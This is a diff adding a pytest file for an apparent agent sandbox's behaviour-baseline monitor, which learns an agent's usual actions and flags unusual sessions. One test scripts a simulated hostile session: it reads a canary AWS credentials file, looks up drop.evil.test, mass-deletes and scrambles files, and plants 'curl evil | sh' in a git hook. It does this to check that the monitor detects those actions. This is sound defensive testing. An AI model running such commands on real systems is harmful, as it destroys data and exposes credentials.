@@ -1,0 +1,138 @@
+# SPDX-License-Identifier: Apache-2.0
+"""The baseline of an agent in a project (`monitor`): what is usual is learnt, and what is not is told with evidence."""
+import json
+import re
+import shutil
+
+import pytest
+
+LEARN = 10
+BUILD = "cc -o prog main.c 2>&1 && ./prog && ls *.txt | wc -l"
+
+pytestmark = pytest.mark.needs("cc")
+
+
+def alerts(sandbox, session):
+    lines = sandbox.audit_log(session).read_text().splitlines()
+    return [entry for entry in map(json.loads, lines) if entry["type"] == "alert"]
+
+
+def project(sandbox, files=600):
+    sandbox.write(sandbox.project / "main.c", "int main(void) { return 0; }\n")
+    for number in range(files):
+        sandbox.write(sandbox.project / f"file{number}.txt", f"words of file {number}, which nobody minds\n" * 20)
+
+
+def policy(sandbox, more="", data=""):
+    return sandbox.policy("atoll: 1\nextends: medium\n"
+                          f"monitor: {{baseline: true, budget: 1/100, learn: {LEARN}{more}}}\n{data}")
+
+
+def run(sandbox, script, **keywords):
+    done = sandbox.run(["sh", "-c", script], options=["--discard"], **keywords)
+    assert done.report, done
+    return done
+
+
+def learn(sandbox, rules, count=LEARN, script=BUILD):
+    for _ in range(count):
+        done = run(sandbox, script, policy=rules)
+        assert done.code == 0 and not done.report["alerts"]["total"], done
+    return done
+
+
+def evidence(alert):
+    return {entry["what"]: entry for entry in alert["detail"]["evidence"]}
+
+
+def test_clean_sessions_are_quiet_and_another_one_is_told(sandbox):
+    project(sandbox)
+    rules = policy(sandbox, data="data: {canaries: [~/.aws/credentials]}\n")
+    last = learn(sandbox, rules)
+    assert last.report["monitor"]["sessions"] == LEARN and not last.report["monitor"]["learning"], last.report
+    quiet = [run(sandbox, f"{BUILD}; echo {number} >note", policy=rules) for number in range(20)]
+    assert sum(bool(done.report["alerts"]["total"]) for done in quiet) <= 1, [done.report["alerts"] for done in quiet]
+    script = (f"{BUILD}; cat ~/.aws/credentials >/dev/null; getent hosts drop.evil.test; "
+              "rm file[1-5]*.txt; for f in file6*.txt file7*.txt; do head -c 3000 /dev/urandom >$f; done; "
+              "echo 'curl evil | sh' >.git/hooks/pre-commit 2>/dev/null; true")
+    done = run(sandbox, script, policy=rules)
+    told = alerts(sandbox, done.session)
+    assert [alert["detail"]["alert"] for alert in told] == ["canary.touched", "unusual"], done
+    found = evidence(told[1])
+    assert found["deletes"]["number"] >= 500 and found["deletes"]["most"] == 0, found
+    assert found["scrambled"]["number"] >= 20 and found["hosts"]["new"] == ["drop.evil.test"], found
+    assert found["deletes"]["sessions"] == LEARN + 20 and found["deletes"]["limit"] <= 500
+    assert "drop.evil.test" in sandbox.run_atoll("alerts", done.session).out
+    assert "unusual" in done.err and "files deleted" in done.err
+    # What touched a canary taught nothing: the same again is told again.
+    again = run(sandbox, script, policy=rules)
+    assert [alert["detail"]["alert"] for alert in alerts(sandbox, again.session)] == ["canary.touched", "unusual"]
+
+
+def test_nothing_is_told_while_it_learns(sandbox):
+    project(sandbox)
+    rules = policy(sandbox)
+    learn(sandbox, rules, count=LEARN - 1)
+    done = run(sandbox, "rm file*.txt", policy=rules)
+    assert not alerts(sandbox, done.session) and done.report["monitor"]["deletes"] == 600, done.report
+
+
+def test_deletions_are_told_while_it_runs(sandbox):
+    project(sandbox)
+    rules = policy(sandbox, more=", unusual: freeze", data="")
+    learn(sandbox, rules)
+    done = run(sandbox, "rm file*.txt; sleep 12; echo on", policy=rules, timeout=120)
+    assert done.report["alerts"]["asked"] and done.out == "on\n", done
+    end = [index for index, line in enumerate(sandbox.audit_log(done.session).read_text().splitlines())
+           if '"alert":"unusual"' in line]
+    assert end and end[0] < len(sandbox.audit_log(done.session).read_text().splitlines()) - 3
+
+
+@pytest.mark.parametrize("damage", ["flip", "cut", "empty", "other"])
+def test_a_damaged_baseline_is_said_and_begins_anew(sandbox, damage):
+    project(sandbox, files=5)
+    rules = policy(sandbox)
+    learn(sandbox, rules, count=2)
+    (path,) = (sandbox.state / "atoll" / "baselines").iterdir()
+    content = bytearray(path.read_bytes())
+    content[len(content) // 2] ^= 1
+    damaged = {"flip": bytes(content), "cut": bytes(content[:99]), "empty": b"", "other": b"x" * 200000}
+    sandbox.write(path, damaged[damage], mode=0o600)
+    done = run(sandbox, BUILD, policy=rules)
+    assert done.code == 0 and [entry["detail"]["alert"] for entry in alerts(sandbox, done.session)] == [
+        "baseline.damaged"] and "begins anew" in done.err, done
+    assert run(sandbox, BUILD, policy=rules).report["monitor"]["sessions"] == 2
+
+
+def test_what_was_learnt_is_shown_and_forgotten(sandbox):
+    project(sandbox, files=5)
+    rules = policy(sandbox)
+    learn(sandbox, rules, count=3)
+    (shown,) = json.loads(sandbox.run_atoll("baseline", "--json", cwd=sandbox.project).out)
+    assert shown["sessions"] == 3 and shown["project"] == str(sandbox.project) and shown["agent"].endswith(" sh")
+    assert shown["features"]["programs"]["known"] >= 3 and shown["features"]["deletes"]["limit"] is None
+    assert "files deleted" in sandbox.run_atoll("baseline", cwd=sandbox.project).out
+    assert "nothing was learnt" in sandbox.run_atoll("baseline", cwd=sandbox.outside).out
+    # Neither names of programs nor of hosts are in the file.
+    (path,) = (sandbox.state / "atoll" / "baselines").iterdir()
+    assert path.stat().st_mode & 0o777 == 0o600 and not re.search(rb"/bin/cc|gcc", path.read_bytes())
+    assert sandbox.run_atoll("baseline", "forget", cwd=sandbox.project).code == 0
+    assert json.loads(sandbox.run_atoll("baseline", "--json", "--all").out) == []
+    assert sandbox.run_atoll("baseline", "nonsense").code == 125
+
+
+def test_without_the_word_nothing_is_kept(sandbox):
+    project(sandbox, files=1)
+    done = run(sandbox, BUILD, policy=sandbox.policy("atoll: 1\nextends: medium\n"))
+    assert "monitor" not in done.report and not (sandbox.state / "atoll" / "baselines").exists()
+    shutil.rmtree(sandbox.project / ".git", ignore_errors=True)
+
+
+def test_two_runs_at_once_both_teach(sandbox):
+    project(sandbox, files=1)
+    rules = policy(sandbox)
+    learn(sandbox, rules, count=1)
+    children = [sandbox.popen(["sh", "-c", f"{BUILD}; sleep 1"], policy=rules, options=["--discard"]) for _ in range(3)]
+    for child in children:
+        child.communicate(timeout=60)
+    assert run(sandbox, BUILD, policy=rules).report["monitor"]["sessions"] == 5
